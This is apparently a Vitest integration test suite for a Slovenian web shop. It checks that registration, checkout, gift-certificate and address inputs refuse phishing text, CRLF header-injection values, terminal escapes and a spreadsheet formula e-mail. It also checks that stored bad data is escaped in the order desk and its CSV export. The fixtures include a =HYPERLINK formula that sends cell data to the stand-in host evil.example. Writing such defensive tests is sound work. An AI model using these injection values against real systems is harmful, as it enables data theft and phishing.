import { mkdtempSync, readFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { type DB, openDatabase } from "~/db/db.server";
import account from "~/locales/account/sl";
import cartExtras from "~/locales/cart-extras/sl";
import { issueToken } from "~/services/sessions.server";
import { ADDRESS, checkoutClient, PASSWORD, stockedProductsQuery } from "../support/checkout";
import { createCustomer, uniqueEmail } from "../support/customers";
import { request } from "../support/http";
import { mailQueueDrained, readOutbox } from "../support/outbox";
import { runOrders } from "../support/orders-cli";

// What shoppers type must stay text (DESIGN.md "Sessions and safety"), replayed against the
// real server on SQLite and PostgreSQL: a first name that is a phishing sentence, an e-mail
// address that is a spreadsheet formula, names with terminal escapes — refused at the field by
// every form and call that takes them, with nothing written and no mail sent; and old data that
// already holds such values shown escaped by the order desk, neutralised in its CSV export and
// never linked in a mail.

const PHISHING = "Vaš račun je zaklenjen, odklenite ga na https://lumera-pomoc.example/odkleni";
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"';
const ESC_NAME = "Ana\u001b[2J";
/** A control character other than the line feed that ends each line the desk prints. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** Text of an HTML element as React escapes it, back to plain text. */
const unescape = (html: string | undefined) =>
  html
    ?.replace(/&#x27;/g, "'")
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
/** The message a form shows under field `id` (Field in app/components/account-form.tsx). */
const fieldError = (body: string, id: string) => unescape(new RegExp(`<p class="field-error" id="${id}-error">([^<]*)</p>`).exec(body)?.[1]);
/** Whether the input `id` is marked aria-invalid. */
const markedInvalid = (body: string, id: string) =>
  new RegExp(`<input[^>]*id="${id}"[^>]*aria-invalid="true"|<input[^>]*aria-invalid="true"[^>]*id="${id}"`).test(body);

for (const server of inject("servers")) {
  describe(`what shoppers type stays text on ${server.name}`, () => {
    let db: DB;
    let close: () => Promise<void>;
    let product: number;
    const outbox = path.join(server.dataDir, "outbox");
    const shop = () => checkoutClient(server.baseUrl, db);
    const api = (p: string, body: unknown, bearer?: string) =>
      request(server.baseUrl, p, {
        host: "si.lumera.localhost",
        method: "POST",
        headers: { "Content-Type": "application/json", ...(bearer ? { Authorization: `Bearer ${bearer}` } : {}) },
        body: JSON.stringify(body),
      });

    beforeAll(async () => {
      const connection = openDatabase(server.databaseUrl);
      db = connection.db;
      close = connection.close;
      product = (
        await stockedProductsQuery(db, { minStock: 20, langs: ["sl"] })
          .orderBy("p.id", "desc")
          .executeTakeFirstOrThrow()
      ).id;
    });
    afterAll(async () => close());

    /** Nothing of an address: no account, no queued or written mail to it. */
    async function nothingFor(email: string) {
      expect(await db.selectFrom("customer").select("id").where("email", "=", email).executeTakeFirst()).toBeUndefined();
      expect(await db.selectFrom("mail_queue").select("id").where("to_address", "=", email).execute()).toEqual([]);
      expect(readOutbox(outbox).filter((m) => m.to.includes(email))).toEqual([]);
    }

    it("a phishing first name is refused at the field by the registration form, the checkout's registration and the register and registerCheckout calls (400, the errors list): nothing written, no mail to the stranger", async () => {
      const stranger = uniqueEmail("stranger");
      const { postForm, guestWith } = shop();
      const fields = { intent: "register", email: stranger, password: PASSWORD, firstName: PHISHING, lastName: "Novak" };

      const form = await postForm("/login", fields);
      expect(form.status).toBe(400);
      expect(fieldError(form.body, "register-first-name")).toBe(account.errors.firstNameInvalid);
      expect(markedInvalid(form.body, "register-first-name")).toBe(true);

      const cookie = await guestWith(product, 1);
      const contact = await postForm("/checkout/contact", fields, { cookie });
      expect(contact.status).toBe(400);
      expect(fieldError(contact.body, "register-first")).toBe(account.errors.firstNameInvalid);

      const body = { email: stranger, password: PASSWORD, firstName: PHISHING, lastName: "Novak", department: "su" };
      const byApi = await api("/api/user/register", body);
      expect(byApi.status).toBe(400);
      expect(byApi.json()).toEqual({ success: false, errors: [account.errors.firstNameInvalid] });
      const { token } = await issueToken(db, "guest", null);
      const atCheckout = await api("/api/user/registerCheckout", body, token);
      expect(atCheckout.status).toBe(400);
      expect(atCheckout.json()).toEqual({ success: false, errors: [account.errors.firstNameInvalid] });

      // a last name the same way, and the good name still registers
      const last = await api("/api/user/register", { ...body, firstName: "Ana", lastName: "Novak\r\nBcc: x@example.com" });
      expect(last.json()).toEqual({ success: false, errors: [account.errors.lastNameInvalid] });
      await mailQueueDrained(db);
      await nothingFor(stranger);
    });

    it("the HYPERLINK address is refused by registration, the checkout's guest e-mail and updateGuestEmail; nothing stored", async () => {
      const { postForm, guestWith, sessionOf } = shop();
      const form = await postForm("/login", { intent: "register", email: HYPERLINK, password: PASSWORD, firstName: "Ana", lastName: "Novak" });
      expect(form.status).toBe(400);
      expect(fieldError(form.body, "register-email")).toBe(account.errors.emailInvalid);
      const byApi = await api("/api/user/register", { email: HYPERLINK, password: PASSWORD, firstName: "Ana", lastName: "Novak", department: "su" });
      expect(byApi.status).toBe(400);
      expect(byApi.json()).toEqual({ success: false, errors: [account.errors.emailInvalid] });

      const cookie = await guestWith(product, 1);
      const guest = await postForm("/checkout/contact", { intent: "guest", email: HYPERLINK }, { cookie });
      expect(guest.status).toBe(400);
      expect(fieldError(guest.body, "guest-email")).toBe(account.errors.emailInvalid);
      expect((await sessionOf(cookie)).guest_email).toBeNull();

      const { token } = await issueToken(db, "guest", null);
      const update = await api("/api/user/updateGuestEmail", { department: "su", email: HYPERLINK }, token);
      expect(update.status).toBe(400);
      expect(update.json()).toEqual({ success: false, errors: [account.errors.emailInvalid] });
      expect((await sessionOf(`guest_token=${token}`)).guest_email).toBeNull();
      expect(await db.selectFrom("customer").select("id").where("email", "=", HYPERLINK).executeTakeFirst()).toBeUndefined();
    });

    it("names with ESC or a line break and streets or cities with a web address are refused at the field by the checkout's address step and the profile's address book", async () => {
      const { postForm, guestWith, get, logIn } = shop();
      const cookie = await guestWith(product, 1);
      expect((await postForm("/checkout/contact", { intent: "guest", email: uniqueEmail("esc") }, { cookie })).status).toBe(303);
      // [what is typed, the field's id in the checkout, in the profile's address book, the message]
      const cases: [Record<string, string>, string, string, string][] = [
        [{ firstName: ESC_NAME }, "addr-first", "address-firstName", account.errors.firstNameInvalid],
        [{ lastName: "Novak\r\nStatus: paid" }, "addr-last", "address-lastName", account.errors.lastNameInvalid],
        [{ street: "Obiščite https://lumera-pomoc.example" }, "addr-street", "address-street", account.errors.streetInvalid],
        [{ city: "Ljubljana\n<b>" }, "addr-city", "address-city", account.errors.cityInvalid],
      ];
      for (const [change, id, , message] of cases) {
        const res = await postForm("/checkout/address", { intent: "address", ...ADDRESS, ...change }, { cookie });
        expect(res.status, id).toBe(400);
        expect(fieldError(res.body, id), id).toBe(message);
        expect(markedInvalid(res.body, id), id).toBe(true);
      }
      // no address was kept: the shipping step is not open yet
      expect((await get("/checkout/shipping", cookie)).headers.location).toBe("/checkout/address");

      const email = uniqueEmail("book");
      await createCustomer(db, { email, password: PASSWORD, firstName: "Ana", lastName: "Novak" });
      const auth = await logIn(email);
      for (const [change, , id, message] of cases) {
        const res = await postForm("/profile", { intent: "address-save", ...ADDRESS, ...change }, { cookie: auth });
        expect(res.status, id).toBe(400);
        expect(fieldError(res.body, id), id).toBe(message);
        expect(markedInvalid(res.body, id), id).toBe(true);
      }
      const customer = await db.selectFrom("customer").select("id").where("email", "=", email).executeTakeFirstOrThrow();
      expect(await db.selectFrom("customer_address").select("id").where("customer_id", "=", customer.id).execute()).toEqual([]);
    });

    it("the gift certificate form refuses a phishing recipient name, a message with a web address and the HYPERLINK recipient; nothing in the cart", async () => {
      const { postForm, guestWith } = shop();
      const cookie = await guestWith(product, 1);
      const additional = () => db.selectFrom("cart_additional_item").select("id").orderBy("id", "desc").limit(1).executeTakeFirst();
      const before = await additional();
      const cases: [Record<string, string>, string][] = [
        [{ recipientName: PHISHING }, cartExtras.errors.giftName],
        [{ message: `Vse najboljše!\n${PHISHING}` }, cartExtras.errors.giftMessageText],
        [{ message: "Vse najboljše!\u001b[2J" }, cartExtras.errors.giftMessageText],
        [{ recipientEmail: HYPERLINK }, cartExtras.errors.giftEmail],
      ];
      for (const [change, message] of cases) {
        const res = await postForm("/darilni-boni.html", { amount: "5000", recipientName: "Maja", ...change }, { cookie });
        expect(res.status, JSON.stringify(change)).toBe(400);
        expect(unescape(/role="alert"[^>]*>([^<]*)</.exec(res.body)?.[1])).toBe(message);
        expect(res.body).toContain('aria-invalid="true"');
      }
      expect(await additional()).toEqual(before);
    });

    it("old data: a stored first name holding a web address is mailed as text — the HTML part links only the order page the shop built", async () => {
      const email = uniqueEmail("old-name");
      await createCustomer(db, { email, password: PASSWORD, firstName: "Ana", lastName: "Novak" });
      const { postForm, placeOrder, logIn } = shop();
      const cookie = await logIn(email);
      expect((await postForm("/cart", { intent: "add", productId: String(product), qty: "1" }, { cookie })).status).toBe(303);
      const { order } = await placeOrder(cookie, { payment: "cod" });
      const address = { ...ADDRESS, firstName: PHISHING, phone: null };
      await db
        .updateTable("shop_order")
        .set({ address: JSON.stringify(address) })
        .where("id", "=", order.id)
        .execute();
      const shipped = await runOrders(server, ["mark-shipped", order.number]);
      expect(shipped.code, shipped.stderr).toBe(0);
      const mail = readOutbox(outbox).find((m) => m.to.includes(email) && m.subject.includes("je na poti"));
      expect(
        mail,
        readOutbox(outbox)
          .filter((m) => m.to.includes(email))
          .map((m) => m.subject)
          .join(", "),
      ).toBeTruthy();
      expect(mail!.text).toContain(PHISHING);
      const links = [...mail!.html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1].replace(/&amp;/g, "&"));
      expect(links).toHaveLength(1);
      expect(links[0]).toMatch(new RegExp(`^http://si\\.lumera\\.localhost:\\d+/profile/orders/${order.number}$`));
      expect(mail!.html).not.toMatch(/href="[^"]*lumera-pomoc/);
    });

    describe("the order desk prints old data escaped and exports it neutralised", () => {
      let order: { id: number; number: string; created_at: string };
      const storedEmail = `${HYPERLINK}\u001b[2J`;

      beforeAll(async () => {
        const { guestWith, placeOrder } = shop();
        ({ order } = await placeOrder(await guestWith(product, 1), { payment: "cod" }));
        // what an order placed before the rules could hold, written as old data would be
        const address = { ...ADDRESS, firstName: ESC_NAME, lastName: "Novak\r\nStatus: paid · payment: bank", phone: null };
        await db
          .updateTable("shop_order")
          .set({ email: storedEmail, address: JSON.stringify(address) })
          .where("id", "=", order.id)
          .execute();
      });

      it("orders show and orders list write ESC, CR and LF as \\x1b, \\r and \\n: nothing reaches the terminal raw", async () => {
        const shown = await runOrders(server, ["show", order.number]);
        expect(shown.code, shown.stderr).toBe(0);
        expect(shown.stdout).not.toMatch(RAW_CONTROL);
        const lines = shown.stdout.split("\n");
        expect(lines.filter((l) => l.startsWith("Status:"))).toHaveLength(1);
        expect(lines.find((l) => l.startsWith("Address:"))).toContain("Ana\\x1b[2J Novak\\r\\nStatus: paid · payment: bank");
        expect(lines.find((l) => l.startsWith("E-mail:"))).toContain(`${HYPERLINK}\\x1b[2J`);

        const listed = await runOrders(server, ["list", "--since", order.created_at]);
        expect(listed.code, listed.stderr).toBe(0);
        expect(listed.stdout).not.toMatch(RAW_CONTROL);
        expect(listed.stdout.split("\n").find((l) => l.startsWith(order.number))).toContain(`${HYPERLINK}\\x1b[2J`);
      });

      it("orders export writes the formula as text: the cell begins with ' and a spreadsheet does not run it", async () => {
        const file = path.join(mkdtempSync(path.join(os.tmpdir(), "desk-text-")), "orders.csv");
        const exported = await runOrders(server, ["export", "--out", file, "--since", order.created_at]);
        expect(exported.code, exported.stderr).toBe(0);
        const rows: Record<string, string>[] = parse(readFileSync(file), { columns: true });
        const row = rows.find((r) => r.number === order.number);
        expect(row?.email).toBe(`'${storedEmail}`);
        for (const r of rows) for (const cell of Object.values(r)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      });
    });
  });
}
